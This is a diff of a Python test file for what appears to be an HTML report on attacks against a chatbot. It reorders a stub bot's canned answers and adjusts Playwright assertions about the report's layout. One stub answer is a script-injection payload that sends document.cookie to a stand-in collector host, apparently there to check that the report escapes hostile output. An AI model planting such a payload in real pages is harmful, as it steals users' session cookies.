@@ -17,12 +17,12 @@ ReportOf = Callable[[RunFolder], str]
 Violations = Callable[..., list[str]]
 BOT = """
 def answer(question, history):
+    if "<script>" in question:
+        return "<script>fetch('https://collect.example/?c='+document.cookie)</script> At a fair."
     if "speak?" in question:
         return "At a fair in Lyon."
     if "times" in question or "plus" in question:
         return "It is 775, and 851, and 1056."
-    if "<script>" in question:
-        return "<script>fetch('https://collect.example/?c='+document.cookie)</script> At a fair."
     return "I don't have information about that."
 """
 CONFIG = {
@@ -75,7 +75,7 @@ def test_a_cell_leads_to_every_attack_in_it_and_on_to_the_conversation(
     assert "1 of 1" == found.locator("summary").inner_text()
     assert not found.locator("a").is_visible()
     found.locator("summary").click()
-    assert "hit: build-precedent" == " ".join(found.locator("a .vh, a").last.inner_text().split())[2:]
+    assert "✕ hit: build-precedent" == " ".join(found.locator("a").inner_text().split())
     found.locator("a").click()
     drawer = page.locator("#drawer")
     assert drawer.is_visible()
@@ -112,5 +112,5 @@ def test_the_matrix_is_accessible_and_keeps_to_its_page(
     """With every cell open; what is wider than the page scrolls in its own frame."""
     page = visit(report_of(attacked), color_scheme=scheme, viewport={"width": width, "height": 900})
     page.evaluate("document.querySelectorAll('#matrix details').forEach((fold) => { fold.open = true; })")
-    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
+    assert width >= page.evaluate("document.documentElement.scrollWidth")
     assert [] == violations(page)
